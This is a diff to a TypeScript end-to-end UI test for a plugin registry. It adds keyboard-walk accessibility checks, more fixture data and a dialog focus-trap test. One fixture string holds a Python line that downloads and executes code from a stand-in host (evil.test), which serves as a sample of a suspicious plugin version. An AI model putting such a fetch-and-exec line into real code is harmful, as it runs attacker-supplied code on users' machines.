@@ -8,6 +8,7 @@ import { memberPaths } from '../web/src/account/member-links.ts'
 import { adminPaths } from '../web/src/admin/admin-paths.ts'
 import { managePaths } from '../web/src/manage/links.ts'
 import { paths } from '../web/src/paths.ts'
+import { isWalkedByKeyboard } from './keyboard.ts'
 import { fitsItsWidth, hidesNothing } from './looks.ts'
 import { signUp } from './people.ts'
 import { type Product, useProduct } from './product.ts'
@@ -18,8 +19,9 @@ const it = useProduct({}, {}, fillRegistry)
 const longName = 'Extraordinarily'.repeat(6)
 const suspicious = 'import requests\n\nexec(requests.get("https://evil.test/code").text)\n'
 
-/** A publisher with a node whose second version was found suspicious. */
+/** A publisher with a node whose second version was found suspicious, and something on every page of the admins. */
 async function fillRegistry({ world, apiUrl }: Product): Promise<void> {
+  const { given } = world
   await createPublisherFor(world.deps, {
     id: 'lumen',
     name: longName,
@@ -33,6 +35,25 @@ async function fillRegistry({ world, apiUrl }: Product): Promise<void> {
     await publish({ apiUrl, publisherId: 'lumen', nodeId: 'soft-blur', token, version, node, archive })
     await world.runJobs()
   }
+  const unclaimed = 'admin-11338bd3-f081-43cf-b3f9-295c829826f7'
+  const other = await given.publisher({ id: 'northern-lights', name: 'Northern Lights' })
+  for (let count = 10; count < 36; count++) {
+    await given.node({
+      id: `sharpen-${count}`,
+      name: `Sharpen ${count}`,
+      publisher_id: other.id,
+      downloads: count ** 4,
+    })
+    await given.node({ id: `listed-${count}`, name: `Listed ${count}`, publisher_id: unclaimed })
+  }
+  await given.report({ node_id: 'soft-blur', text: `It reads my keys, and says ${longName}.` })
+  await given.report({ node_id: 'sharpen-10', kind: 'broken', text: 'It does not start.' })
+  await given.advisory({ id: 'NYSA-2026-0001', node_id: 'soft-blur' })
+  await given.rescan()
+  await given.transfer({ node_id: 'sharpen-11', from: other.id, to: 'lumen' })
+  await given.invitation({ publisher_id: 'lumen' })
+  await given.webhook({ publisher_id: 'lumen' })
+  await given.failedJob({})
 }
 
 const ids: Record<string, string> = {
@@ -40,7 +61,7 @@ const ids: Record<string, string> = {
   publisherId: 'lumen',
   version: '1.1.0',
   userId: 'nobody',
-  advisoryId: 'none',
+  advisoryId: 'NYSA-2026-0001',
 }
 const withIds = (path: string) => path.replace(/:(\w+)/g, (_, name: string) => ids[name] ?? name)
 
@@ -59,10 +80,13 @@ const looks = [
   { locale: 'ar', colorScheme: 'dark', width: 360 },
 ] as const
 
+const isThorough = process.env['EVERY_LOOK'] === '1'
 /** One look a page, both with `npm run looks`. */
-const looksOf = (index: number) => (process.env['EVERY_LOOK'] === '1' ? looks : [looks[index % looks.length]])
+const looksOf = (index: number) => (isThorough ? looks : [looks[index % looks.length]])
+/** Each page has its turn every fifth day, all of them with `npm run looks`. */
+const isWalked = (index: number) => isThorough || (index + Math.floor(Date.now() / 86_400_000)) % 5 === 0
 
-test('the pages of members and admins fit their width and hide nothing from assistive technology', async () => {
+test('the pages of members and admins fit their width, hide nothing from assistive technology, and are walked by keyboard', async () => {
   assert.ok(ofMembers.length > 25)
   const { page } = await it.product.visit({ expectedComplaints: /40[34]/ })
   const email = await signUp(page, '/account')
@@ -83,6 +107,7 @@ test('the pages of members and admins fit their width and hide nothing from assi
       await it.product.picture(page, `member${path.replaceAll('/', '-')}-${locale}`)
       await fitsItsWidth(page, locale === 'ar' ? 'rtl' : 'ltr', path)
       await hidesNothing(page, path)
+      if (isWalked(index)) await isWalkedByKeyboard(page, path)
     }
   }
 })
@@ -92,3 +117,25 @@ async function settled(page: Page): Promise<void> {
   await page.getByRole('heading', { level: 1 }).first().waitFor()
   await page.waitForFunction(() => !document.querySelector('main .spinner, main [aria-busy=true]'))
 }
+
+test('a dialog keeps the focus to itself, and gives it back', async () => {
+  const { page } = await it.product.visit()
+  await signUp(page, '/account')
+  const opener = page.getByRole('button', { name: 'Delete my account' })
+  const dialog = page.getByRole('dialog')
+  const isInside = () => dialog.evaluate((element) => element.contains(document.activeElement))
+  for (const leave of [
+    () => page.keyboard.press('Escape'),
+    () => dialog.getByText('Cancel').press('Enter'),
+  ]) {
+    await opener.press('Enter')
+    await dialog.waitFor()
+    for (let press = 0; press < 6; press++) {
+      await page.keyboard.press('Tab')
+      assert.ok((await isInside()) || (await page.evaluate(() => document.activeElement === document.body)))
+    }
+    await leave()
+    await dialog.waitFor({ state: 'detached' })
+    assert.ok(await opener.evaluate((element) => element === document.activeElement))
+  }
+})
